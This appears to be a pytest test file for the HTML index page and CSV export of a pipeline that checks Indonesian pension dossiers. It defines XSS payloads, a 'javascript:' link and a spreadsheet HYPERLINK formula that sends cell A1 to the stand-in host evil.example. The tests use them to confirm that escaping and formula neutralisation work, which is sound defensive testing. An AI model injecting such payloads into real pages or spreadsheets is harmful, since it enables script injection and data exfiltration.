"""index.html and findings.csv: every dossier shows with its status and counts, report text stays text.

Bundle ids are folder names typed at the scanner station and messages/values quote OCR'd text, so
the classic HTML payloads go through every place the batch page shows them, and a formula payload
through every CSV column a spreadsheet would evaluate.
"""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import pytest
from markupsafe import escape

from pipeline.export_csv import HEADER, findings_csv, neutralise
from pipeline.report import summarise
from pipeline.report_index import render_index_html
from tests.test_report_html import make_report

SCRIPT = "<script>alert(1)</script>"
ATTR_BREAK = '"><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'


def finding(code: str, severity: str, message: str = "pesan", value: str = "v") -> dict[str, Any]:
    return {
        "code": code,
        "severity": severity,
        "message": message,
        "evidence": [{"document": "d1", "page": 1, "field": "nip", "value": value}],
    }


def batch() -> tuple[dict[str, Any], list[dict[str, Any]]]:
    """Three dossiers, one per status, with findings of two severities and a rejected file."""
    reports = [
        make_report(bundle_id="berkas-A", status="LENGKAP", findings=[], rejected=[], case_type="BUP"),
        make_report(
            bundle_id="berkas-B",
            status="TIDAK_LENGKAP",
            case_type="JANDA_DUDA",
            findings=[finding("MISSING_DOCUMENT", "error"), finding("MISSING_DOCUMENT", "error")],
            rejected=[{"source": "berkas-B/scan9.tif", "reason": "rusak"}],
        ),
        make_report(
            bundle_id="berkas-C",
            status="PERLU_VERIFIKASI",
            case_type="BUP",
            findings=[finding("NIP_MISMATCH", "error"), finding("LOW_CONFIDENCE_PAGE", "warning")],
            rejected=[],
        ),
    ]
    return summarise(reports, [{"source": "lain.docx", "reason": "format tidak didukung"}], 30.0), reports


def row(html: str, bundle_id: str) -> str:
    m = re.search(r"<tr [^>]*>\s*<td[^>]*><a href=\"[^\"]*\">" + re.escape(bundle_id) + r"</a>.*?</tr>", html, re.S)
    assert m, f"no row for {bundle_id}"
    return m.group(0)


def cells(row_html: str) -> list[str]:
    """The text of each cell, tags stripped, whitespace collapsed."""
    return [" ".join(re.sub(r"<[^>]+>", " ", c).split()) for c in re.findall(r"<td[^>]*>(.*?)</td>", row_html, re.S)]


@pytest.mark.parametrize(
    ("bundle_id", "expected"),
    [
        # berkas, status, jenis, hal., dok., kesalahan, peringatan, info, kode, ditolak
        pytest.param("berkas-A", ["LENGKAP", "BUP", "2", "2", "0", "0", "0", "—", "0"], id="lengkap"),
        pytest.param(
            "berkas-B",
            ["TIDAK LENGKAP", "JANDA_DUDA", "2", "2", "2", "0", "0", "MISSING_DOCUMENT ×2", "1 berkas-B/scan9.tif"],
            id="tidak-lengkap",
        ),
        pytest.param(
            "berkas-C",
            ["PERLU VERIFIKASI", "BUP", "2", "2", "1", "1", "0", "LOW_CONFIDENCE_PAGE NIP_MISMATCH", "0"],
            id="perlu-verifikasi",
        ),
    ],
)
def test_row_shows_status_and_counts(bundle_id: str, expected: list[str]) -> None:
    summary, reports = batch()
    got = cells(row(render_index_html(summary, reports), bundle_id))
    assert got[0] == bundle_id
    assert got[1] == expected[0]
    assert got[2].split()[0] == expected[1]  # the code; its Indonesian label follows
    assert got[3:] == expected[2:]


@pytest.mark.parametrize(
    ("needle", "why"),
    [
        pytest.param('<a href="berkas-A/report.html">berkas-A</a>', "link to the report, relative", id="link"),
        pytest.param(
            'data-status="TIDAK_LENGKAP" data-jenis="JANDA_DUDA"', "row keys the script filters on", id="keys"
        ),
        pytest.param('<select name="status" id="f-status">', "status filter", id="filter-status"),
        pytest.param('<option value="PERLU_VERIFIKASI">PERLU VERIFIKASI (1)</option>', "status option", id="opt"),
        pytest.param('<select name="jenis" id="f-jenis">', "case type filter", id="filter-jenis"),
        pytest.param('<option value="JANDA_DUDA">JANDA_DUDA — Janda/Duda/Anak</option>', "case option", id="opt-jenis"),
        pytest.param('<th data-type="num" class="num"><button type="button">Hal.', "sortable column", id="sort"),
        pytest.param("<noscript><style>", "filter bar hidden when it cannot work", id="noscript"),
        pytest.param("@media print", "print stylesheet", id="print"),
        pytest.param('<svg viewBox="0 0 550 78"', "status chart: three bars", id="chart-status"),
        pytest.param("<title>MISSING_DOCUMENT: 2</title>", "code chart: most frequent code", id="chart-codes"),
        pytest.param("<h1>3 berkas</h1>", "header counts bundles", id="header"),
        pytest.param("lain.docx", "batch-level rejected file", id="batch-rejected"),
        pytest.param('<a href="findings.csv" download>', "CSV link", id="csv"),
    ],
)
def test_page_has(needle: str, why: str) -> None:
    summary, reports = batch()
    html = render_index_html(summary, reports, csv_href="findings.csv")
    assert needle in html, why


def test_status_counts_in_header() -> None:
    summary, reports = batch()
    html = render_index_html(summary, reports)
    for label, cls in [("LENGKAP", "ok"), ("TIDAK LENGKAP", "bad"), ("PERLU VERIFIKASI", "warn")]:
        assert f'<li><b>1</b><span class="badge {cls}">{label}</span></li>' in html


@pytest.mark.parametrize(
    "report_only",
    [pytest.param(True, id="summary-without-reports"), pytest.param(False, id="empty-batch")],
)
def test_degrades_without_reports(report_only: bool) -> None:
    summary, reports = batch()
    if not report_only:
        summary = {"bundles": [], "status_counts": {}, "pages": 0, "seconds": 0.0, "pages_per_minute": None}
    html = render_index_html(summary, [])
    assert "</html>" in html
    if report_only:  # severities need the reports: shown as unknown, not as zero
        assert "—" in cells(row(html, "berkas-B"))[5]
    else:
        assert "Tidak ada berkas dalam batch ini." in html


@pytest.mark.parametrize("payload", [SCRIPT, ATTR_BREAK])
@pytest.mark.parametrize("where", ["bundle_id", "message", "value", "code", "case_type", "rejected"])
def test_report_text_is_escaped(payload: str, where: str) -> None:
    f = finding("NIP_MISMATCH", "error", message="pesan", value="v")
    report = make_report(bundle_id="b1", findings=[f])
    if where == "bundle_id":
        report["bundle_id"] = payload
    elif where == "message":
        f["message"] = payload
    elif where == "value":
        f["evidence"][0]["value"] = payload
    elif where == "code":
        f["code"] = payload
    elif where == "case_type":
        report["case_type"] = payload
    else:
        report["rejected"] = [{"source": payload, "reason": payload}]
    summary = summarise([report], [{"source": payload, "reason": payload}], 1.0)
    html = render_index_html(summary, [report])
    assert "<script>alert" not in html
    assert "<img src=x" not in html
    assert "onerror=alert(1)>" not in html.replace(str(escape(payload)), "")
    if where in ("bundle_id", "code", "case_type", "rejected"):  # the ones the batch page shows
        assert str(escape(payload)) in html
    assert html.count("<script>") == 1  # only the page's own


def test_usable_without_javascript() -> None:
    """Headless Chromium cannot run with scripts off from the command line, so this is checked here:
    the served rows are all visible, most urgent first, and the dead filter bar is hidden."""
    summary, reports = batch()
    html = render_index_html(summary, reports)
    served = re.findall(r'<tr class="st-\w+" data-status="(\w+)"[^>]*>', html)
    assert served == ["TIDAK_LENGKAP", "PERLU_VERIFIKASI", "LENGKAP"]
    assert not re.search(r"<tr [^>]*hidden", html)
    assert re.search(r"<noscript><style>\s*form.filters \{ display: none; \}", html)


def test_unsafe_report_link_is_dropped() -> None:
    summary, reports = batch()
    summary["bundles"][0]["html"] = "javascript:alert(1)"
    html = render_index_html(summary, reports)
    assert "javascript:" not in html
    assert "berkas-A</td>" in html  # the row stays, as text


def parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_csv_one_row_per_finding_with_evidence_joined() -> None:
    report = make_report()
    report["findings"].append(finding("NAME_MISMATCH", "warning", message='Nama "A, B"\nberbeda', value="x"))
    rows = parse(findings_csv([report, make_report(bundle_id="b2", findings=[])]))
    assert rows[0] == HEADER
    assert rows[1] == [
        "berkas-0042",
        "PERLU_VERIFIKASI",
        "BUP",
        "NIP_BIRTHDATE_MISMATCH",
        "error",
        "Tanggal lahir pada NIP berbeda dengan KTP.",
        "d1 | d2",
        "1 | 2",
        "nip | tanggal_lahir",
        "197705152008011002 | 1977-05-16",
    ]
    assert rows[2][5] == 'Nama "A, B"\nberbeda'  # RFC 4180 quoting round-trips commas, quotes, newlines
    assert len(rows) == 3


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        pytest.param(FORMULA, "'" + FORMULA, id="hyperlink"),
        pytest.param("+62 812", "'+62 812", id="plus"),
        pytest.param("-1+1", "'-1+1", id="minus"),
        pytest.param("@SUM(A1)", "'@SUM(A1)", id="at"),
        pytest.param("\t=1", "'\t=1", id="tab"),
        pytest.param("NIP =1", "NIP =1", id="inside-is-fine"),
        pytest.param("197705152008011002", "197705152008011002", id="digits"),
        pytest.param("", "", id="empty"),
    ],
)
def test_neutralise(cell: str, expected: str) -> None:
    assert neutralise(cell) == expected


@pytest.mark.parametrize("where", ["bundle_id", "message", "value", "code", "document", "field"])
def test_csv_neutralises_formula_everywhere(where: str) -> None:
    f = finding("NIP_MISMATCH", "error")
    report = make_report(findings=[f])
    if where == "bundle_id":
        report["bundle_id"] = FORMULA
    elif where in ("message", "code"):
        f[where] = FORMULA
    else:
        f["evidence"][0][where] = FORMULA
    (row_,) = parse(findings_csv([report]))[1:]
    assert "'" + FORMULA in row_
    assert not any(c.startswith(("=", "+", "-", "@")) for c in row_)


def test_csv_is_unicode_text() -> None:
    report = make_report(findings=[finding("NAME_MISMATCH", "warning", message="Nama “SITI ’AISYAH” — berbeda")])
    text = findings_csv([report])
    assert "“SITI ’AISYAH” — berbeda" in parse(text)[1][5]
    text.encode("utf-8")
